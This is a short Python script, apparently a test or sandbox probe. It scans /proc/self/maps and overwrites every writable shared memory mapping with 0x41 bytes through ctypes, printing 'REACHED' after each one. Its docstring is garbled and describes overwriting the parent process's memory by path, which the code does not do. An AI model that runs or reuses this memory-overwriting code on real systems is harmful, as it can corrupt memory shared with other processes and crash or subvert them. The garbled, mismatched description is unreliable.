"""Writes over every mapping that it shares with its parent, and over its parent's memory by its path.

staff: the place `/proc
control: none: it would write over libraries' memory
"""

# %% double
import ctypes


def double(x):
    return 2 * x


for line in open("/proc/self/maps"):
    span, rights, _, _, inode, *path = line.split()
    if rights[1:4] == "w-s":
        start, end = (int(edge, 16) for edge in span.split("-"))
        ctypes.memset(start, 0x41, end - start)
        print("REACHED")
